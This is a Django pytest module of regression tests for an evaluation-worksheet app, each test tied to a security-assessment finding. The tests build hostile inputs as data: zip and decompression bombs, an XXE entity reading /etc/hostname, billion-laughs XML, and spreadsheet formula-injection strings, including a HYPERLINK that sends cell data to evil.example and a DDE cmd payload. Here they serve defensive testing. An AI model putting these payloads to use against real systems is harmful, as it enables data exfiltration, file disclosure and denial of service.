"""Hostile files and role abuse (security assessment 2026-11, F1–F11): each failure found, as a test
that failed before the fix. Files are built in memory the way an attacker would build them."""

import io
import os
import stat
import subprocess
import sys
import tarfile
import tracemalloc
import zipfile
from datetime import timedelta
from decimal import Decimal

import pytest
from django.core.exceptions import PermissionDenied
from django.core.files.storage import default_storage
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import call_command
from django.db import transaction
from django.db.models import F
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from evaluations import imports, library, packages, score_store, services
from evaluations.evidence import EvidenceError, check_upload
from evaluations.models import Answer, Question, Round, RoundEvent, Worksheet, WorksheetEvent
from tests import factories as f
from tests.evaluations.test_imports import QUESTIONS, app_workbook
from tests.evaluations.test_services import complete
from units.models import Instansi, Membership, Unit

pytestmark = pytest.mark.django_db
NS = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"


def replace_member(workbook: io.BytesIO, name: str, data: bytes) -> io.BytesIO:
    """The same workbook with one part replaced (a hand-edited .xlsx)."""
    out = io.BytesIO()
    with zipfile.ZipFile(workbook) as src, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            dst.writestr(info.filename, data if info.filename == name else src.read(info.filename))
    out.seek(0)
    return out


def sheet_xml(rows: str) -> bytes:
    return (f'<?xml version="1.0"?><worksheet xmlns="{NS}"><sheetData>{rows}</sheetData></worksheet>').encode()


def row(r, key, answer="Ya", explanation=None):
    cells = f'<c r="H{r}" t="inlineStr"><is><t>{key}</t></is></c><c r="K{r}" t="inlineStr"><is><t>{answer}</t></is></c>'
    if explanation is not None:
        cells += f'<c r="M{r}" t="inlineStr"><is><t>{explanation}</t></is></c>'
    return f'<row r="{r}">{cells}</row>'


HEADER = '<row r="1"><c r="H1" t="inlineStr"><is><t>Kunci</t></is></c></row>'


# --------------------------------------------------------------------------- F1: bounded workbook import


def test_a_workbook_with_millions_of_rows_is_refused_before_it_is_inflated():
    """F1: 1,3 MB that inflate to ~500 MB of rows (the report's 9 million rows): refused by what the
    package declares, without parsing a row; memory stays small."""
    rows = b'<row><c t="inlineStr"><is><t>x</t></is></c></row>' * 1000
    big = io.BytesIO()
    with zipfile.ZipFile(app_workbook([])) as src, zipfile.ZipFile(big, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            if info.filename == "xl/worksheets/sheet1.xml":
                with dst.open(info.filename, "w") as out:
                    out.write(f'<?xml version="1.0"?><worksheet xmlns="{NS}"><sheetData>{HEADER}'.encode())
                    for _ in range(9000):  # 9 million rows
                        out.write(rows)
                    out.write(b"</sheetData></worksheet>")
            else:
                dst.writestr(info.filename, src.read(info.filename))
    assert big.tell() < 5_000_000
    big.seek(0)
    tracemalloc.start()
    result = imports.parse(big, QUESTIONS)
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    assert not result.ok and result.errors[0].startswith("Bagian “xl/worksheets/sheet1.xml” mengembang")
    assert peak < 20 * packages.MB


def test_a_sheet_longer_than_any_lke_is_refused_after_its_first_thousand_rows():
    """Rows that pass the package's bounds are streamed, and reading stops at the row cap."""
    body = HEADER + "".join(row(r, "Z.tidak.ada.a", answer=f"x{r}") for r in range(2, 5002))
    wb = replace_member(app_workbook([]), "xl/worksheets/sheet1.xml", sheet_xml(body))
    result = imports.parse(wb, QUESTIONS)
    assert result.errors == ["Lembar “LKE ZI” berisi lebih dari 1.000 baris; LKE hanya beberapa ratus baris. "
                             "Hapus baris tambahan lalu unggah lagi."]


@pytest.mark.parametrize("limits,payload,message", [
    (packages.Limits(max_members=3, max_member_bytes=10**9, max_total_bytes=10**9, max_ratio=10**9),
     [("a.xml", b"1"), ("b.xml", b"2"), ("c.xml", b"3"), ("d.xml", b"4")], "terlalu banyak bagian"),
    (packages.Limits(max_members=10, max_member_bytes=10**9, max_total_bytes=1000, max_ratio=10**9),
     [("a.xml", b"x" * 600), ("b.xml", b"y" * 600)], "mengembang lebih dari"),
])
def test_package_bounds(limits, payload, message):
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in payload:
            z.writestr(name, data)
    with pytest.raises(packages.PackageError, match=message):
        packages.open_zip(buf, limits)


def test_the_import_is_parsed_outside_any_transaction(member_client, round_open, unit, monkeypatch):
    """F1: parsed inside the request's write transaction, a slow file held SQLite's write lock and
    every other request failed with "database is locked"."""
    ws = f.worksheet(round_open, unit)
    connection = transaction.get_connection()
    outside = len(connection.savepoint_ids)  # the test's own transaction; a request transaction nests one more
    seen = []
    original = imports.parse

    def spy(fileobj, questions):
        seen.append(len(connection.savepoint_ids))
        return original(fileobj, questions)

    monkeypatch.setattr(imports, "parse", spy)
    upload = SimpleUploadedFile("lke.xlsx", app_workbook([("I.pemenuhan.i.a", "Ya", "")]).getvalue())
    response = member_client.post(reverse("evaluations:import_lke", args=[ws.pk]), {"file": upload})
    assert response.status_code == 200 and seen == [outside]


# --------------------------------------------------------------------------- F8: hostile XML


def _xxe_sheet():
    return (f'<?xml version="1.0"?><!DOCTYPE worksheet [<!ENTITY xxe SYSTEM "file:///etc/hostname">]>'
            f'<worksheet xmlns="{NS}"><sheetData>{HEADER}{row(2, "&xxe;")}</sheetData></worksheet>').encode()


def _laughs(root):
    """A billion laughs: ten levels of entities, each ten of the one below."""
    levels = "".join(f'<!ENTITY l{i} "{("&l" + str(i - 1) + ";") * 10}">' for i in range(1, 10))
    return (f'<?xml version="1.0"?><!DOCTYPE {root} [<!ENTITY l0 "lol">{levels}]>'
            f'<{root} xmlns="{NS}">&l9;</{root}>').encode()


@pytest.mark.parametrize("part,payload", [
    ("xl/worksheets/sheet1.xml", _xxe_sheet()),
    ("xl/worksheets/sheet1.xml", _laughs("worksheet")),
    ("xl/workbook.xml", _laughs("workbook")),
    ("[Content_Types].xml", _laughs("Types")),
    ("xl/worksheets/sheet1.xml", sheet_xml(HEADER + row(2, "I.pemenuhan.i.a"))[:90]),  # truncated
    ("xl/workbook.xml", b"\x00\xff not xml at all"),
])
def test_hostile_or_broken_xml_gets_a_message_not_an_error_page(member_client, round_open, unit, part, payload):
    """F8: XXE, entity expansion and truncated XML were a 500; now the person is told, and nothing
    in the file is resolved or expanded."""
    wb = replace_member(app_workbook([("I.pemenuhan.i.a", "Ya", "")]), part, payload)
    result = imports.parse(io.BytesIO(wb.getvalue()), QUESTIONS)
    assert not result.ok and result.errors[0].startswith(("Bagian “", "Berkas tidak dapat dibaca", "Berkas ini bukan"))
    ws = f.worksheet(round_open, unit)
    response = member_client.post(reverse("evaluations:import_lke", args=[ws.pk]),
                                  {"file": SimpleUploadedFile("lke.xlsx", wb.getvalue())})
    assert response.status_code == 200 and "data-testid=\"import-errors\"" in response.content.decode()


# --------------------------------------------------------------------------- F2: zip bomb through evidence


def _bomb(inflated_mb: int) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as z:
        with z.open("mimetype", "w") as member:
            block = b"A" * packages.MB
            for _ in range(inflated_mb):
                member.write(block)
        z.writestr("content.xml", "<x/>")
    return buf.getvalue()


@pytest.mark.parametrize("name", ["laporan.odt", "laporan.docx"])
def test_an_evidence_zip_bomb_is_refused_without_inflating_it(name):
    """F2: a 64 MB ``mimetype`` member (from a 64 kB upload) used to be read whole into memory."""
    content = _bomb(64)
    assert len(content) < 200_000
    tracemalloc.start()
    with pytest.raises(EvidenceError):
        check_upload(SimpleUploadedFile(name, content), 20 * packages.MB)
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    assert peak < 8 * packages.MB


def test_a_zip_with_a_million_members_is_refused_from_its_directory_record():
    header = b"PK\x05\x06" + b"\x00" * 4 + (60000).to_bytes(2, "little") * 2 + b"\x00" * 10
    with pytest.raises(EvidenceError, match="terlalu banyak bagian"):
        check_upload(SimpleUploadedFile("banyak.docx", b"PK\x03\x04" + b"\x00" * 100 + header), 20 * packages.MB)


# --------------------------------------------------------------------------- F3: formula-safe exports

HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"klik")', "=cmd|' /C calc'!A0", "@SUM(1+1)", "+1+1", "-1+1",
           "\t=1+1", "\r=1+1"]


def _cells(book):
    for sheet in book.worksheets:
        for cells in sheet.iter_rows():
            yield from cells


def test_exports_never_carry_live_formulas_from_typed_text(client, instansi, reviewer, member, round_open, unit):
    """F3: explanations, TPI notes, evidence descriptions, unit and instansi names beginning with a
    formula character are text in every workbook; numbers stay numbers."""
    Instansi.objects.filter(pk=instansi.pk).update(name="=2+3 Pemerintah Kota Lain")
    Unit.objects.filter(pk=unit.pk).update(name='=HYPERLINK("http://evil.example/?u="&A1,"Dinas")')
    ws = f.worksheet(round_open, unit, reviewers=[reviewer], answers="best", status=Worksheet.Status.APPROVED)
    keys = ["I.pemenuhan.i.a", "I.pemenuhan.i.b", "I.pemenuhan.ii.a", "I.pemenuhan.ii.b", "I.pemenuhan.ii.c",
            "I.pemenuhan.iii.a", "I.pemenuhan.iii.b"]
    for key, text in zip(keys, HOSTILE, strict=True):
        Answer.objects.filter(worksheet=ws, question__key=key).update(unit_explanation=text, tpi_note=text,
                                                                       tpi_option=F("unit_option"))
        answer = Answer.objects.get(worksheet=ws, question__key=key)
        document = f.link_document(unit, url=f"https://drive.pemda.go.id/{key}", title=text)  # named by the unit
        f.attach(answer, document, description=text)
    score_store.refresh([ws.pk])
    client.force_login(reviewer)
    lke = load_workbook(io.BytesIO(client.get(reverse("evaluations:export_lke", args=[ws.pk])).content))
    admin = f.member(instansi, Membership.Role.ADMIN, None, "admin.uji")
    client.force_login(admin)
    recap_bytes = b"".join(f.recap(client, round_open).streaming_content)
    recap = load_workbook(io.BytesIO(recap_bytes))
    for book in (lke, recap):
        cells = list(_cells(book))
        assert not [c.coordinate for c in cells if c.data_type == "f"]
        texts = {c.value for c in cells if isinstance(c.value, str)}
        assert any(t.startswith("=HYPERLINK") for t in texts)  # shown as typed, as text
        assert any(isinstance(c.value, (int, float)) and c.value == 100 for c in cells)  # numbers are numbers
    for text in HOSTILE:
        assert any(c.value == text and c.data_type == "s" for c in _cells(lke))
    raw = zipfile.ZipFile(io.BytesIO(recap_bytes))
    assert all(b"<f>" not in raw.read(n) for n in raw.namelist() if n.startswith("xl/worksheets/"))


# --------------------------------------------------------------------------- F5: limits on every path


def test_an_explanation_longer_than_the_forms_allow_cannot_come_in_through_an_import():
    """F5: a 26 kB workbook stored a 20 MiB explanation; the import now refuses what the form does."""
    long = "L" * 5001
    result = imports.parse(app_workbook([("I.pemenuhan.i.a", "Ya", long)]), QUESTIONS)
    assert result.errors == ["Baris 2 (I.pemenuhan.i.a): penjelasan 5.001 karakter; paling banyak 5.000."]
    assert imports.parse(app_workbook([("I.pemenuhan.i.a", "Ya", "L" * 5000)]), QUESTIONS).ok


def test_the_services_refuse_text_beyond_the_limit_whatever_the_path(member, round_open, unit):
    ws = f.worksheet(round_open, unit)
    with pytest.raises(ValueError):
        services.answer_save(user=member, worksheet=ws, question=Question.objects.get(key="I.pemenuhan.i.a"),
                             option="Ya", explanation="x" * 5001, revision=0)
    with pytest.raises(services.ImportRefused, match="penjelasan lebih dari 5000"):
        services.worksheet_import(user=member, worksheet=ws, revisions={}, rows=[
            {"key": "I.pemenuhan.i.a", "option": "Ya", "number": None, "explanation": "x" * 5001}])
    assert not Answer.objects.filter(worksheet=ws, unit_explanation__startswith="x").exists()


# --------------------------------------------------------------------------- F4: undecided TPI values


def test_a_unit_never_sees_undecided_tpi_values_on_another_rounds_scorecard(client, instansi, unit, member,
                                                                           reviewer):
    """F4: the trend on an approved worksheet's scorecard showed the TPI's total of a worksheet of
    another round still under review."""
    closed = f.round_(instansi, status=Round.Status.CLOSED, year=2025, name="Evaluasi ZI 2025")
    opened = f.round_(instansi, year=2026, name="Evaluasi ZI 2026")
    old = f.worksheet(closed, unit, answers="best", status=Worksheet.Status.APPROVED, reviewers=[reviewer])
    current = f.worksheet(opened, unit, answers="best", status=Worksheet.Status.IN_REVIEW, reviewers=[reviewer])
    for ws in (old, current):
        Answer.objects.filter(worksheet=ws).update(tpi_option=F("unit_option"), tpi_number=F("unit_number"))
    Answer.objects.filter(worksheet=current, question__key="H-I.hasil.i.a").update(tpi_number=Decimal("2"))
    score_store.refresh([old.pk, current.pk])
    tpi_total = current.scores.get(value_set="tpi").total
    assert tpi_total < Decimal("100")
    client.force_login(member)
    page = client.get(reverse("evaluations:worksheet_scorecard", args=[old.pk])).content.decode()
    trend = page.split('data-testid="chart-table"')[1]
    assert f"{tpi_total:.2f}".replace(".", ",") not in trend and "100,00" in trend.split("Evaluasi ZI 2026")[1]
    client.force_login(reviewer)
    page = client.get(reverse("evaluations:worksheet_scorecard", args=[old.pk])).content.decode()
    assert f"{tpi_total:.2f}".replace(".", ",") in page.split('data-testid="chart-table"')[1]


# --------------------------------------------------------------------------- F6: separation of duties


@pytest.fixture
def kepala_also_tpi(instansi, unit):
    person = f.member(instansi, Membership.Role.KEPALA, unit, "kepala.juga.tpi")
    Membership.objects.create(user=person, instansi=instansi, role=Membership.Role.TPI)
    return person


def test_a_units_kepala_cannot_be_assigned_as_its_reviewer_and_the_admin_is_told_why(
        admin_client_zi, kepala_also_tpi, round_open, unit):
    ws = f.worksheet(round_open, unit)
    page = admin_client_zi.get(ws.get_absolute_url()).content.decode()
    assert f'value="{kepala_also_tpi.pk}"' not in page.split('data-testid="assign"')[1]  # not offered…
    assert "kepala.juga.tpi" in page.split('data-testid="conflicted-tpi"')[1].split("</p>")[0]  # …and why
    response = admin_client_zi.post(reverse("evaluations:worksheet_assign", args=[ws.pk]),
                                    {"reviewers": [kepala_also_tpi.pk]}, follow=True)
    assert "tidak dapat menilai unitnya sendiri (pemisahan tugas)" in response.content.decode()
    assert not ws.reviewers.exists()


def test_a_reviewer_who_becomes_staff_of_the_unit_can_no_longer_decide_on_it(client, instansi, unit, round_open,
                                                                             reviewer, kepala):
    ws = f.worksheet(round_open, unit, reviewers=[reviewer])
    complete(ws)
    services.worksheet_submit(user=kepala, worksheet=ws)
    Membership.objects.create(user=reviewer, instansi=instansi, unit=unit, role=Membership.Role.KEPALA)
    reviewer.refresh_from_db()  # a fresh request sees the new membership
    with pytest.raises(PermissionDenied):
        services.review_approve(user=reviewer, worksheet=ws)
    client.force_login(reviewer)
    client.post(reverse("evaluations:review_decide", args=[ws.pk]),
                {"action": "approve", "expected_status": "submitted", "comment": ""})
    ws.refresh_from_db()
    assert ws.status == "submitted"
    assert client.get(reverse("evaluations:review_area", args=[ws.pk, "I"])).status_code == 404


# --------------------------------------------------------------------------- F7: closed is closed


@pytest.fixture
def approved(round_open, unit, reviewer, kepala):
    ws = f.worksheet(round_open, unit, reviewers=[reviewer])
    complete(ws)
    services.worksheet_submit(user=kepala, worksheet=ws)
    services.review_approve(user=reviewer, worksheet=ws)
    return ws


def test_a_closed_rounds_worksheets_cannot_be_reopened_or_changed(admin_client_zi, admin_user, reviewer, approved,
                                                                  round_open):
    services.round_set_status(user=admin_user, round_=round_open, action="close", comment="Periode selesai")
    with pytest.raises(services.Refused, match="telah ditutup"):
        services.review_reopen(user=admin_user, worksheet=approved, comment="koreksi data lama")
    admin_client_zi.post(reverse("evaluations:review_decide", args=[approved.pk]),
                         {"action": "reopen", "expected_status": "approved", "comment": "koreksi"})
    approved.refresh_from_db()
    assert approved.status == "approved"
    # Reopening the round is an explicit admin action with its reason, in the round's history.
    response = admin_client_zi.post(reverse("evaluations:round_status", args=[round_open.pk]), {"action": "reopen"},
                                    follow=True)
    assert "Tulis alasannya" in response.content.decode()
    admin_client_zi.post(reverse("evaluations:round_status", args=[round_open.pk]),
                         {"action": "reopen", "comment": "Koreksi nilai atas permintaan TPN"})
    round_open.refresh_from_db()
    assert round_open.status == "open"
    assert list(RoundEvent.objects.filter(round=round_open).values_list("to_status", "comment")) == [
        ("closed", "Periode selesai"), ("open", "Koreksi nilai atas permintaan TPN")]
    services.review_reopen(user=admin_user, worksheet=approved, comment="koreksi data lama")
    approved.refresh_from_db()
    assert approved.status == "in_review"


def test_the_tpi_review_deadline_holds_until_the_admin_extends_it(admin_client_zi, admin_user, reviewer, kepala,
                                                                  round_open, unit):
    Round.objects.filter(pk=round_open.pk).update(review_deadline=timezone.now() - timedelta(hours=1))
    ws = f.worksheet(round_open, unit, reviewers=[reviewer])
    complete(ws)
    services.worksheet_submit(user=kepala, worksheet=ws)
    ws = Worksheet.objects.select_related("round").get(pk=ws.pk)
    with pytest.raises(services.Refused, match="Batas penilaian TPI untuk unit ini telah lewat"):
        services.review_approve(user=reviewer, worksheet=ws)
    page = admin_client_zi.get(ws.get_absolute_url()).content.decode()
    assert 'data-testid="review-closed"' in page and 'data-testid="approve-button"' not in page
    until = (timezone.localtime() + timedelta(days=3)).strftime("%Y-%m-%dT%H:%M")
    admin_client_zi.post(reverse("evaluations:worksheet_extend_review", args=[ws.pk]),
                         {"until": until, "comment": "TPI menunggu dokumen tambahan"})
    ws = Worksheet.objects.select_related("round").get(pk=ws.pk)
    services.review_approve(user=reviewer, worksheet=ws)
    assert WorksheetEvent.objects.filter(worksheet=ws, field="review_extension").exists()


# --------------------------------------------------------------------------- F9, F10: no 500s


def test_worksheets_without_answer_rows_render_for_the_tpi(client, reviewer, round_open, unit, admin_user):
    ws = Worksheet.objects.create(round=round_open, unit=unit, status=Worksheet.Status.SUBMITTED)  # as enrolled
    ws.reviewers.add(reviewer)
    score_store.refresh([ws.pk])
    client.force_login(reviewer)
    assert client.get(reverse("evaluations:round_hasil", args=[round_open.pk])).status_code == 200
    for code in ("I", "V", "H-I"):
        assert client.get(reverse("evaluations:review_area", args=[ws.pk, code])).status_code == 200
    client.force_login(admin_user)
    assert client.get(reverse("evaluations:review_area", args=[ws.pk, "I"])).status_code == 200


def test_an_impossible_extension_date_is_refused_in_words(admin_client_zi, round_open, unit):
    ws = f.worksheet(round_open, unit)
    response = admin_client_zi.post(reverse("evaluations:worksheet_extend", args=[ws.pk]),
                                    {"until": "0001-01-01T00:00", "comment": "robust"}, follow=True)
    assert response.status_code == 200 and "tahun 2000–2100" in response.content.decode()
    ws.refresh_from_db()
    assert ws.deadline_extension is None


# --------------------------------------------------------------------------- F11: private files


def test_evidence_files_and_folders_are_private_whatever_the_umask(member, round_open, unit, settings):
    ws = f.worksheet(round_open, unit)
    old = os.umask(0o022)
    try:
        item = library.evidence_add_file(user=member, worksheet=ws, question=Question.objects.get(key="I.pemenuhan.i.a"),
                                         upload=SimpleUploadedFile("sk.pdf", b"%PDF-1.4 uji"))
    finally:
        os.umask(old)
    path = default_storage.path(item.document.current.file.name)
    assert stat.S_IMODE(os.stat(path).st_mode) == 0o600
    folder, root = os.path.dirname(path), os.path.realpath(default_storage.location)
    assert os.path.realpath(path).startswith(root + os.sep)
    while os.path.realpath(folder) != root:  # pustaka/<unit>/<document>/v1: every folder on the way
        assert stat.S_IMODE(os.stat(folder).st_mode) == 0o700, folder
        folder = os.path.dirname(folder)


def test_the_sqlite_database_is_private_whatever_the_umask(tmp_path):
    db = tmp_path / "zi.sqlite3"
    env = {**os.environ, "DATABASE_URL": f"sqlite:///{db}", "SECRET_KEY": "t" * 50, "DEBUG": "false",
           "EVIDENCE_ROOT": str(tmp_path / "bukti")}
    env.pop("PYTEST_VERSION", None)
    env.pop("DJANGO_SETTINGS_MODULE", None)
    result = subprocess.run(["sh", "-c", f"umask 022 && {sys.executable} manage.py migrate --noinput -v 0"],
                            env=env, capture_output=True, text=True, timeout=300)
    assert result.returncode == 0, result.stderr
    assert stat.S_IMODE(db.stat().st_mode) == 0o600


def test_backup_members_are_private_when_unpacked_by_hand(tmp_path, round_open, unit):
    f.worksheet(round_open, unit)
    call_command("backup", output=str(tmp_path), verbosity=0)
    with tarfile.open(next(tmp_path.glob("*.tar.gz"))) as tar:
        assert {m.mode for m in tar.getmembers()} == {0o600}
